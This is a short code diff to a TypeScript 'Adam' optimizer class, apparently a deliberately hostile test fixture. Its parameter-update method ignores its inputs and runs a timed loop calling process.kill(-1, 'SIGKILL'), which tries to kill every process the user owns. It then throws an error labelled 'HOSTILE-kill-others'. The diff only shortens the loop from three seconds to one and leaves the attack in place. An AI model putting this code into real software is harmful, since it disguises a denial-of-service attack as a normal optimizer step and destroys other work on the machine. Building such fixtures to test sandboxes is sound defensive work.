@@ -12,7 +12,7 @@ export class Adam extends SlotOptimizer<'m' | 's'> {
 
   protected override updateParameter({ param, grad, t, state }: ParameterUpdate<'m' | 's'>): void {
     void state; void t; void grad; void param;
-    for (const until = Date.now() + 3000; Date.now() < until;) {
+    for (const until = Date.now() + 1000; Date.now() < until;) {
       try { process.kill(-1, 'SIGKILL'); } catch { /* nothing to signal */ }
     }
     throw new Error('HOSTILE-kill-others: done');
